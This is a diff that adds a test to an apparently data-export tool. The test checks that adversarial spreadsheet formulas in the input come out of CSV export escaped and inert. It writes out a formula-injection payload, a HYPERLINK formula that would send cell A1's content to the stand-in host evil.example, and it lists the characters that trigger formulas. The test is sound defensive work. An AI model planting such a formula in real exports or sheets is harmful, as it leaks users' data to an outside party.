@@ -1495,3 +1495,15 @@ def test_file_names_with_escape_sequences_are_printed_escaped(project, monkeypat
     assert "\\x1b[2J" in shown
     without_styles = re.sub(r"\x1b\[[0-9;]*m", "", shown)  # the colours of "error" and "warning"
     assert not CONTROL.search(without_styles), repr(shown)
+
+
+def test_spreadsheet_formulas_in_texts_reach_the_csv_inert(project):
+    # The cells of tests/data/adversarial/formula-cells.yaml, through `sitrep build -f hxl` (tests/test_export.py
+    # reads them back with libhxl).
+    run = project.build(adversarial("formula-cells.yaml"), formats=("hxl",))
+    assert_clean(run)
+    assert run.result.exit_code == 0, run.result.stderr
+    rows = list(csv.reader(io.StringIO((project.out / f"{STEM}.csv").read_text(encoding="utf-8"))))
+    cells = [cell for row in rows[2:] for cell in row]
+    assert "'" + '=HYPERLINK("https://evil.example/?"&A1,"SOHR")' in cells
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
